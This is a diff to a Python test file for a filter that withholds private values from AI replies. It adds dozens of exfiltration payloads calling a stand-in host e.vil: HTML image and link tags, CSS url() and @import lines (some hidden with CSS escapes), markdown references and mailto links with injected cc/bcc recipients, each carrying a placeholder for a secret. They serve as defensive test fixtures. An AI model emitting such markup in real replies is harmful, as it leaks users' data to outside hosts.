@@ -103,6 +103,34 @@ SPELLINGS = {
     '<img src="x.png">{}': "",
     "[{}](https://x.example/a)": "",
     "![x](https://evil.example/p.png?k=\n\n{}": "",  # a blank line ends a target
+    # The cases below are a read-only reviewer's (rev-g16), each restored on main.
+    # A raw HTML block (`<pre>`, `<script>`, `<style>`, `<textarea>`) and an HTML tag run over blank lines.
+    '<pre><img src="https://e.vil/?q=\n\n{}"></pre>': "load",
+    "<script type=x>\n\n</script><pre><img src='https://e.vil/a\n\n?{}'></pre>": "load",
+    '<pre>\n<img src="http:e.vil?q=\n\n{}">\n</pre>': "load",
+    "<textarea></textarea><pre>\n<img\n\nsrc=https://e.vil/?q={}></pre>": "load",
+    '<div><img src="https://e.vil/?q=\n\n{}">': "load",
+    '<pre><a href="https://e.vil/?q=\n\n{}">x</a></pre>': "click",
+    "<style>\nbody{background:url(\n\nhttps://e.vil/?q={})}\n</style>": "load",
+    "<style>\n@import\n\n'https://e.vil/?q={}';\n</style>": "load",
+    "<style>@import 'https://e.vil/?a;q={}';</style>": "load",
+    "<pre>x</pre>\n\n![x](https://e.vil/?q=\n\n{}": "",  # after the block, a blank line ends a target again
+    # An image's alt text with an escaped `]` or a code span; a definition's destination on the next line.
+    "![a\\]b](https://e.vil/?q={})": "load",
+    "![`]`](http:e.vil?q={})": "load",
+    "![a `b](https://e.vil/?q={})": "load",  # a code span never closed: its brackets would count, strict
+    "![x][r]\n\n[r]:\nhttps://e.vil/?q={}": "load",
+    "[r]:\n<e.vil?q={}>": "load",
+    "[r]:\n\n{} said hi": "",  # no definition over a blank line
+    # CSS escapes that spell url(.
+    "<style>body{background:u\\72l(https://e.vil/?q={})}</style>": "load",
+    "<style>body{background:\\75 rl(https://e.vil/?q={})}</style>": "load",
+    # A mailto: query that adds recipients: not the whole address.
+    "[m](mailto:{}?cc=x@e.vil)": "click",
+    "[m](mailto:{}?subject=hi&bcc=x@e.vil)": "click",
+    "[m](mailto:{}?subject=hi&amp;t%6F=x@e.vil)": "click",
+    "[m](mailto:{}?subject=hi)": "mailto",
+    "mailto:{}?subject=Hi": "mailto",
 }
 
 
@@ -227,6 +255,25 @@ def test_the_proxy_streamed_withholds_them_with_placeholders_cut_across_chunks(p
     assert not [value for value in REQUEST_VALUES if value in image]  # the image never
     assert (REQUEST_VALUES[0] in link) is opt_in
     assert f"withheld={2 if opt_in else 3}" in response.text
+
+
+def test_a_stream_decides_a_mailto_query_on_as_much_of_it_as_a_whole_reply():
+    """A query after a `mailto:` address is held back until it ends (or a window of it is read): a stream cut right
+    after `?c` withholds `?cc=` as the whole reply does, and fills in the address before `?subject=`."""
+
+    def resolve(ref):
+        return Withheld(ref.url) if ref.url in ("load", "click") else VALUES.get(ref.exact())
+
+    for reply, restored in (
+        ("[m](mailto:<EMAIL_1>?cc=x@e.vil) ok", False),
+        ("[m](mailto:<EMAIL_1>?subject=hi) ok", True),
+        ("mailto:<EMAIL_1>?subject=a-subject-longer-than-the-window&cc=x@e.vil", False),
+    ):
+        whole = restore_text(reply, resolve)
+        stream = StreamRestorer(resolve)
+        cut = reply.index("?") + 2
+        assert "".join(stream.restore([reply[:cut], reply[cut:]])) == whole.text
+        assert (VALUES["<EMAIL_1>"] in whole.text) == restored, reply
 
 
 def test_the_scope_withholds_by_the_kind_of_url_and_its_options():
